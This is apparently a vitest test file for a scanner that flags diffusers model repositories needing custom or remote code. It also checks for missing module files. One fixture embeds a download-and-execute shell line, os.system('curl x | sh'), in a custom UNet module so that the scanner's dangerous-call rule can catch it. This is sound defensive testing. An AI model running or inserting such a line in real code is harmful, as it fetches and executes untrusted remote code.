import { readFileSync, readdirSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { ruleTester } from "../../helpers/rule-tester.js";
import { scanFiles } from "../../helpers/scan-files.js";

const REAL = join(import.meta.dirname, "../../../fixtures/diffusers");
const customUnet = "import torch\nfrom diffusers import ModelMixin\n\nclass MyUNet(ModelMixin):\n    def forward(self, x):\n        return x\n";
const index = (extra: Record<string, unknown>): string =>
  JSON.stringify({ _class_name: "StableDiffusionPipeline", _diffusers_version: "0.27.0", scheduler: ["diffusers", "PNDMScheduler"], text_encoder: ["transformers", "CLIPTextModel"], ...extra });

describe("real diffusers model_index.json files", () => {
  for (const name of readdirSync(REAL)) {
    it(`${name} (components from diffusers, transformers and diffusers.pipelines) needs no remote code`, async () => {
      const report = await scanFiles({ "model_index.json": readFileSync(join(REAL, name, "model_index.json")) });
      expect(report.findings.filter((f) => f.ruleId.startsWith("MG-RMC-")).map((f) => f.message)).toEqual([]);
    });
  }
});

ruleTester("remote-code-required", {
  valid: [
    { name: "a model_index.json whose optional component has a null library", files: { "model_index.json": index({ safety_checker: [null, null], unet: ["diffusers", "UNet2DConditionModel"] }) } },
    { name: "a model_index.json in a subfolder naming diffusers pipeline modules", files: { "sd/model_index.json": index({ safety_checker: ["stable_diffusion", "StableDiffusionSafetyChecker"] }) } },
  ],
  invalid: [
    {
      name: "a custom UNet component whose module file is in the component folder",
      files: { "model_index.json": index({ unet: ["my_unet", "MyUNet"] }), "unet/my_unet.py": customUnet, "unet/config.json": "{}" },
      expect: (f) => expect(f[0]?.message).toContain("unet/my_unet.py"),
    },
    {
      name: "a custom pipeline named by a [module, class] _class_name",
      files: { "model_index.json": JSON.stringify({ _class_name: ["my_pipeline", "MyPipeline"], unet: ["diffusers", "UNet2DModel"] }), "my_pipeline.py": "class MyPipeline: pass\n" },
      expect: (f) => expect(f[0]?.message).toContain("my_pipeline.py"),
    },
    {
      name: "a custom pipeline repo with pipeline.py beside a string _class_name",
      files: { "model_index.json": JSON.stringify({ _class_name: "MyPipeline", unet: ["diffusers", "UNet2DModel"] }), "pipeline.py": "class MyPipeline: pass\n" },
      expect: (f) => expect(f[0]?.message).toContain("pipeline.py"),
    },
    {
      name: "a component whose module shadows a known library name but is shipped in the component folder",
      files: { "model_index.json": index({ unet: ["diffusers", "UNet2DConditionModel"] }), "unet/diffusers.py": customUnet },
      expect: (f) => expect(f[0]?.message).toContain("unet/diffusers.py"),
    },
  ],
});

ruleTester("remote-code-missing-module", {
  valid: [{ name: "a custom component whose module file is present", files: { "model_index.json": index({ unet: ["my_unet", "MyUNet"] }), "unet/my_unet.py": customUnet } }],
  invalid: [
    {
      name: "a component library that is no known package and has no module file",
      files: { "model_index.json": index({ unet: ["my_unet", "MyUNet"] }) },
      expect: (f) => expect(f.map((x) => x.message)).toEqual(["model_index.json unet[0] references unet/my_unet.py, which is not in the repo"]),
    },
  ],
});

describe("custom diffusers components feed the other remote-code rules", () => {
  it("a custom component calling os.system is reported as a dangerous call", async () => {
    const report = await scanFiles({ "model_index.json": index({ unet: ["my_unet", "MyUNet"] }), "unet/my_unet.py": `import os\nos.system("curl x | sh")\n${customUnet}` });
    expect(report.findings.map((f) => f.ruleId)).toContain("MG-RMC-004");
  });

  it("the JSON remoteCode section lists the custom component module", async () => {
    const report = await scanFiles({ "model_index.json": index({ unet: ["my_unet", "MyUNet"] }), "unet/my_unet.py": customUnet });
    expect(report.sections.remoteCode?.required).toBe(true);
    expect(report.sections.remoteCode?.references.map((r) => [r.module, r.local, r.present])).toEqual([["my_unet", true, true]]);
  });
});
